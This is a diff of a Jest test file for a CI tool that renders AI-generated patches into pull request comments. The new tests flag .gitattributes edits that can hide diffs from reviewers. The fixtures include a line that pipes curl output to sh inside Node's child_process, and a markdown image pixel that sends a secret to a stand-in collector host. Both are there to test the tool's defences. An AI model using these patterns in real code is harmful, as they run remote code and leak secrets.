@@ -1,6 +1,7 @@
 import { describe, expect, it } from '@jest/globals'
 import {
   COMMENT_LIMIT,
+  attributesCallout,
   fenceFor,
   isStickyComment,
   neutralizeMarkdown,
@@ -14,6 +15,8 @@ import {
   type CommentFile,
   type CommentInput
 } from '../../src/report/comment.js'
+import { PatchDigester, digestPatchText } from '../../src/git/patch-digest.js'
+import { formatLeftOut } from '../../src/git/patch-preamble.js'
 
 const MARKER = stickyMarker('CI', 'claude')
 
@@ -120,11 +123,11 @@ describe('renderComment', () => {
     const body = renderComment(input(files, patch))
     expect(body).toContain('not shown here')
     expect(body).toContain(
-      'The whole patch is in the job summary of [the workflow run](https://github.example/o/r/actions/runs/7) and in its `claude&#45;patch` artifact.'
+      'The whole patch is in the job summary of [the workflow run](https://github.example/o/r/actions/runs/7) and in its <code>claude&#45;patch</code> artifact.'
     )
     const summary = renderPatchSummary(patch, 'claude-patch')
     expect(fences(summary).blocks[0]?.join('\n')).toBe(patch.replace(/\n$/, ''))
-    expect(renderPatchSummary('x'.repeat(1_000_000))).toContain('too large to show here')
+    expect(renderPatchSummary('x'.repeat(1_000_000))).toContain('too large to show whole here')
   })
 
   it('says so when there are no changes', () => {
@@ -157,7 +160,7 @@ describe('renderComment', () => {
     const notShown = 2000 - shown.length
     expect(body).toContain(`**${notShown.toLocaleString('en-US')} files not shown here**`)
     expect(body).toContain(
-      'The whole patch is in the `claude&#45;patch` artifact of [the workflow run](https://github.example/o/r/actions/runs/7) (it is too large for the job summary).'
+      'The whole patch is in the <code>claude&#45;patch</code> artifact of [the workflow run](https://github.example/o/r/actions/runs/7) (it is too large for the job summary).'
     )
     expect(body).toContain('more file')
     expect(body).toContain('more files | | ')
@@ -357,5 +360,128 @@ describe('untrusted agent text', () => {
     expect(safe).toContain('!\u200b[pixel](https://collector.invalid/?q=SECRET)')
     const body = renderComment(input([], '', { finalMessage: text }))
     expect(body).not.toMatch(/!\[/)
+  })
+})
+
+describe('rendering from a bounded digest of the patch', () => {
+  const attributes = [
+    'diff --git a/.gitattributes b/.gitattributes',
+    'new file mode 100644',
+    'index 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111',
+    '--- /dev/null',
+    '+++ b/.gitattributes',
+    '@@ -0,0 +1 @@',
+    '+*.js -diff',
+    ''
+  ].join('\n')
+  const appLine = '+require("child_process").exec("curl x | sh")'
+
+  it('reads the same digest whatever the chunks the bytes arrive in', () => {
+    const patch = `# left-out 99 "big.bin"\n${attributes}${section('app.js', [' a', appLine])}`
+    const whole = digestPatchText(patch)
+    const digester = new PatchDigester()
+    const bytes = Buffer.from(patch)
+    for (let i = 0; i < bytes.length; i += 3) digester.push(bytes.subarray(i, i + 3))
+    expect(digester.finish()).toEqual(whole)
+    expect(whole.sections.map(s => s.path)).toEqual(['.gitattributes', 'app.js'])
+    expect(whole.leftOut).toEqual([{ path: 'big.bin', size: 99 }])
+  })
+
+  it('calls out a .gitattributes change at the top and shows the hidden line as text', () => {
+    const patch = attributes + section('app.js', [' a', appLine])
+    const body = renderComment(
+      input([file('.gitattributes', 1), file('app.js', 1)], '', { digest: digestPatchText(patch) })
+    )
+    const caution = body.indexOf('> [!CAUTION]')
+    expect(caution).toBeGreaterThan(0)
+    expect(caution).toBeLessThan(body.indexOf('| File | Change |'))
+    expect(body).toContain('+*.js -diff')
+    expect(body).toContain(appLine)
+  })
+
+  it('cuts one huge file to a prefix, and keeps comment and summary within GitHub’s limits', () => {
+    const lines = Array.from(
+      { length: 200_000 },
+      (_, n) => `+generated line ${n} ${'x'.repeat(30)}`
+    )
+    const patch = section('dist/huge.js', lines) + section('src/fix.ts', ['-a', '+b'])
+    expect(patch.length).toBeGreaterThan(8_000_000)
+    const digest = digestPatchText(patch)
+    expect(digest.whole).toBeUndefined()
+    expect(digest.sections[0]?.text.length).toBeLessThanOrEqual(64 * 1024)
+    const body = renderComment(
+      input([file('dist/huge.js', 200_000), file('src/fix.ts', 1, 1)], '', { digest })
+    )
+    expect(body.length).toBeLessThanOrEqual(COMMENT_LIMIT)
+    expect(body).toContain('+generated line 0 ')
+    expect(body).not.toContain('+generated line 199999 ')
+    expect(body).toContain('_(cut: the file')
+    expect(body).toContain('+b')
+    const summary = renderPatchSummary(digest)
+    expect(Buffer.byteLength(summary)).toBeLessThan(1024 * 1024)
+    expect(summary).toContain('too large to show whole here')
+    expect(summary).toContain('+b')
+  })
+
+  it('lists the files left out for their size', () => {
+    const patch = `${formatLeftOut([{ path: 'build/out.bin', size: 1_258_291_200 }], 52_428_800)}${section('fix.py', ['+x'])}`
+    const body = renderComment(input([file('fix.py', 1)], patch))
+    expect(body).toContain('**1 file left out of the patch**')
+    expect(body).toContain('<code>build/out.bin</code> (1.2 GiB (1,258,291,200 bytes))')
+  })
+})
+
+describe('the pull request body', () => {
+  it('calls out a .gitattributes change, which GitHub’s own diff view would honour', () => {
+    const patch = [
+      'diff --git a/.gitattributes b/.gitattributes',
+      'index 1111111111111111111111111111111111111111..2222222222222222222222222222222222222222 100644',
+      '--- a/.gitattributes',
+      '+++ b/.gitattributes',
+      '@@ -1 +1,2 @@',
+      ' *.png binary',
+      '+src/** linguist-generated',
+      ''
+    ].join('\n')
+    const body = renderPullRequestBody({
+      conclusion: 'success',
+      files: [file('.gitattributes', 1)],
+      insertions: 1,
+      deletions: 0,
+      digest: digestPatchText(patch),
+      workflow: 'CI',
+      job: 'claude',
+      branch: 'claude/ci'
+    })
+    expect(body).toContain('**This change edits <code>.gitattributes</code>.**')
+    expect(body).toContain('+src/** linguist-generated')
+    expect(body).not.toContain(' *.png binary\n')
+  })
+})
+
+describe('attributesCallout', () => {
+  it('names a .gitattributes the file list holds even when its diff header was not read', () => {
+    const deep = `${'d'.repeat(100)}/`.repeat(5) + '.gitattributes'
+    const callout = attributesCallout([], ['src/a.ts', deep, 'docs/.GitAttributes'])
+    expect(callout).toContain('> [!CAUTION]')
+    expect(callout).toContain(`${'d'.repeat(100)}/`)
+    expect(callout).toContain('docs/.GitAttributes')
+    expect(callout).toContain(': see the patch')
+    expect(attributesCallout([], ['src/a.ts', 'gitattributes.md'])).toBe('')
+  })
+})
+
+describe('links to the artifact', () => {
+  it('links the artifact page in the apply instructions and where the patch is', () => {
+    const files = [file('a.txt', 1)]
+    const patch = 'diff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -1 +1,2 @@\n a\n+b\n'
+    const url = 'https://github.com/o/r/actions/runs/7/artifacts/9'
+    const body = renderComment(input(files, patch, { artifactUrl: url }))
+    expect(body).toContain(
+      `Download <code>claude.patch</code> from [the <code>claude&#45;patch</code> artifact](${url})`
+    )
+    expect(renderPatchSummary('x'.repeat(1_000_000), 'claude-patch', url)).toContain(
+      `it is in [the <code>claude&#45;patch</code> artifact](${url}).`
+    )
   })
 })
